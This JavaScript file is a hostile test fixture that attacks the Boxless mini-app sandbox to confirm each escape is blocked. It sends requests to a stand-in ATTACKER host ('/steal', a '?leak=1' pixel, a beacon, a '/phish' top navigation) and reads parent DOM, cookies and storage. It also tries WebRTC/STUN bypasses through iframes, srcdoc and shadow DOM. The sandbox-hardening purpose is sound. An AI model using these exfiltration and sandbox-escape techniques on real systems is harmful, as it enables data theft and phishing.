// A hostile mini app for tests/e2e/test_miniapps_web.py: every escape must fail.
// UI_ORIGIN is filled in by the test (the Boxless UI's own origin).
"use strict";
const UI_ORIGIN = "__UI_ORIGIN__";
const ATTACKER = "__ATTACKER__"; // a server of the test that counts every hit
const STUN = __STUN__; // UDP ports of the test: each WebRTC attempt aims at its own
const r = {};
const out = document.getElementById("results");

function attempt(name, fn) {
  try {
    r[name] = fn();
  } catch (e) {
    r[name] = "blocked";
  }
}

function settle(promise, ms = 3000) {
  return Promise.race([promise, new Promise((res) => setTimeout(() => res("blocked"), ms))]);
}

async function run() {
  attempt("parent_dom", () => (window.parent.document.body.innerHTML.length >= 0 ? "read" : "read"));
  attempt("parent_location", () => String(window.parent.location.href));
  attempt("referrer_token", () => (document.referrer.includes("token") ? "leaked" : "blocked"));
  attempt("cookies", () => (document.cookie, "read"));
  attempt("local_storage", () => (window.localStorage.length, "read"));
  attempt("session_storage", () => (window.sessionStorage.length, "read"));
  attempt("indexeddb", () => (window.indexedDB.open("x"), "read"));
  r.fetch_api = await settle(fetch(UI_ORIGIN + "/api/v1/contacts").then(() => "read", () => "blocked"));
  r.fetch_remote = await settle(fetch(ATTACKER + "/steal").then(() => "read", () => "blocked"));
  r.fetch_own_origin = await settle(fetch("/sdk/boxless-app.js").then(() => "read", () => "blocked"));
  r.websocket = await settle(
    new Promise((res) => {
      try {
        const ws = new WebSocket(UI_ORIGIN.replace("http", "ws") + "/api/v1/events");
        ws.onopen = () => res("open");
        ws.onerror = () => res("blocked");
      } catch (e) {
        res("blocked");
      }
    }),
  );
  r.img_remote = await settle(
    new Promise((res) => {
      const img = new Image();
      img.onload = () => res("loaded");
      img.onerror = () => res("blocked");
      img.src = ATTACKER + "/pixel.png?leak=1";
    }),
  );
  r.img_ui = await settle(
    new Promise((res) => {
      const img = new Image();
      img.onload = () => res("loaded");
      img.onerror = () => res("blocked");
      img.src = UI_ORIGIN + "/icons/icon-192.png";
    }),
  );
  // sendBeacon answers true once queued even when the CSP then drops it: the
  // test checks the network log for the request itself
  r.beacon = (() => {
    try {
      return navigator.sendBeacon(ATTACKER + "/beacon", "x") ? "queued" : "blocked";
    } catch (e) {
      return "blocked";
    }
  })();
  attempt("popup", () => (window.open(ATTACKER + "/popup") ? "opened" : "blocked"));
  attempt("top_navigation", () => {
    window.top.location.href = ATTACKER + "/phish";
    return "navigated";
  });
  r.worker = await settle(
    new Promise((res) => {
      try {
        const w = new Worker("data:text/javascript,postMessage(1)");
        w.onmessage = () => res("started");
        w.onerror = () => res("blocked");
      } catch (e) {
        res("blocked");
      }
    }),
  );
  await webrtc();
  try {
    await window.Boxless.backend.request({ steal: true });
    r.bridge_backend = "allowed";
  } catch (e) {
    r.bridge_backend = e.code || "error";
  }
  const user = await window.Boxless.getUser();
  r.user_id = /^[0-9a-f]{32}$/.test(user.id) ? "pseudonym" : "bad";
  r.user_name = "name" in user ? "leaked" : "blocked";
  out.textContent = JSON.stringify(r, null, 1);
  await window.Boxless.storage.set("results", JSON.stringify(r));
  // finally, flood the bridge: Boxless must suspend this app
  for (let i = 0; i < 500; i++) window.Boxless.getUser().catch(() => {});
}

// WebRTC: ICE sends STUN datagrams to any address and no CSP directive or sandbox
// flag stops it; the runtime lock must, in this realm and in any fresh one.
function stun(W, name) {
  const pc = new W.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + STUN[name] }] });
  pc.createDataChannel("x");
  pc.createOffer().then((o) => pc.setLocalDescription(o));
  return "made";
}

function srcdoc(name) {
  const src = new URL("rtc.js?" + STUN[name], location.href).href;
  return '<iframe srcdoc="<script src=&quot;' + src + '&quot;></scr' + 'ipt>"></iframe>';
}

function frameCount() {
  return document.querySelectorAll("iframe").length ? "frame_left" : "blocked";
}

async function webrtc() {
  r.rtc_write = window.EARLY;
  attempt("rtc_direct", () => stun(window, "direct"));
  attempt("rtc_webkit", () => stun({ RTCPeerConnection: window.webkitRTCPeerConnection }, "webkit"));
  attempt("rtc_restore", () => {
    delete window.RTCPeerConnection;
    return stun(window, "restore");
  });
  attempt("rtc_prototype", () => {
    // any constructor left anywhere on the global's prototype chain
    for (let o = window; o; o = Object.getPrototypeOf(o)) {
      for (const k of Object.getOwnPropertyNames(o)) {
        if (!/PeerConnection/.test(k)) continue;
        const C = Object.getOwnPropertyDescriptor(o, k).value;
        if (typeof C === "function") return stun({ RTCPeerConnection: C }, "prototype");
      }
    }
    return "blocked";
  });
  attempt("webtransport", () => {
    new WebTransport("https://127.0.0.1:" + STUN.webtransport + "/");
    return "made";
  });
  attempt("media_devices", () => (navigator.mediaDevices.enumerateDevices(), "read"));
  attempt("iframe_element", () => {
    const f = document.createElement("iframe");
    document.body.appendChild(f);
    return stun(f.contentWindow, "element");
  });
  attempt("iframe_index", () => {
    const d = document.createElement("div");
    document.body.appendChild(d);
    d.innerHTML = "<iframe></iframe>";
    return stun(window[0], "index");
  });
  attempt("srcdoc_inner", () => {
    const d = document.createElement("div");
    document.body.appendChild(d);
    d.innerHTML = srcdoc("inner");
    return frameCount();
  });
  attempt("srcdoc_adjacent", () => {
    document.body.insertAdjacentHTML("beforeend", srcdoc("adjacent"));
    return frameCount();
  });
  attempt("srcdoc_range", () => {
    document.body.append(document.createRange().createContextualFragment(srcdoc("range")));
    return frameCount();
  });
  attempt("srcdoc_parsed", () => {
    const doc = new DOMParser().parseFromString(srcdoc("parsed"), "text/html");
    document.body.appendChild(document.adoptNode(doc.body.firstChild));
    return frameCount();
  });
  attempt("srcdoc_shadow", () => {
    const host = document.createElement("div");
    document.body.appendChild(host);
    host.attachShadow({ mode: "closed" }).innerHTML = srcdoc("shadow");
    return "unknown"; // a closed root: the UDP socket tells
  });
  attempt("srcdoc_declarative", () => {
    const host = document.createElement("div");
    document.body.appendChild(host);
    host.setHTMLUnsafe('<div><template shadowrootmode="closed">' + srcdoc("declarative") + "</template></div>");
    return "unknown";
  });
  // give a frame that slipped through the time to load its script
  await new Promise((res) => setTimeout(res, 300));
}

run();
